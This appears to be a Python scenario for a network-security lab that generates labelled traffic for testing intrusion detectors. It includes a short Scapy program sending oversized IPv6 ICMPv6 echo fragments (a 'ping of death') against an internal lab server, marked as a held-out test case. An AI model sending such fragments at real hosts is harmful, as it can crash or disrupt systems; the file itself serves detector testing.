"""IPv6 fragments whose last one would end beyond 65,535 octets."""

from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
target = sys.argv[1]
for number in range(4):
    head = IPv6(dst=target) / IPv6ExtHdrFragment(nh=58, id=700 + number, offset=0, m=1)
    send(head / Raw(b"\\x80\\x00\\x00\\x00\\x00\\x07\\x00\\x01" + b"D" * 1192))
    for offset in range(8000, 8192, 64):
        part = IPv6ExtHdrFragment(nh=58, id=700 + number, offset=offset, m=1 if offset < 8128 else 0)
        send(IPv6(dst=target) / part / Raw(b"D" * (512 if offset < 8128 else 1000)))
    time.sleep(1)
"""


def run(net: Range) -> None:
    attacker, server = net.inside("attacker"), net.inside("files")
    net.everyday()
    net.loop(net.inside("pc1"), f"ping -n -q -c 1 -W 1 -s 6000 {server.ip6}", 0.8)
    with net.attack(
        "ping-of-death",
        by=attacker,
        attackers=[attacker.ip6],
        victims=[server.ip6],
        also=["fragment-flood"],
        frames=f"ip6 and ip6[6] == 44 and dst host {server.ip6}",
        responses=f"icmp6 and src host {server.ip6} and dst host {attacker.ip6}",
    ):
        net.scapy(attacker, PROGRAM, server.ip6)
    net.quiet(2)


SCENARIO = Scenario(
    name="ping-of-death-held-ipv6",
    about="Four echo requests over IPv6 in fragments that would end beyond 65,535 octets.",
    detectors=("ping-of-death",),
    held_out=True,
    run=run,
)
